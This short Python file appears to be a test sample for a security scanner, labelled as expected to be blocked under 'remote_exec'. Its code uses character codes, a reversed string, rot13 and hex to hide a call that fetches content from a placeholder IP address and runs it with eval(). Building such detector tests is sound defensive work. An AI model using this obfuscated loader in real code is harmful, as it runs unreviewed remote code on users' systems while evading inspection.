# expect: BLOCKED category: remote_exec variant-of: risky/remote_exec/urlopen_eval.py technique: encode+getattr
urlopen = getattr(__import__(''.join(map(chr, [117, 114, 108, 108, 105, 98, 46, 114, 101, 113, 117, 101, 115, 116])), fromlist=['_']), 'nepolru'[::-1])
result = eval(urlopen(getattr(bytes, __import__('codecs').decode('sebzurk', 'rot13'))('687474703a2f2f3230332e302e3131332e342f65787072').decode()).read().decode())
print(result)
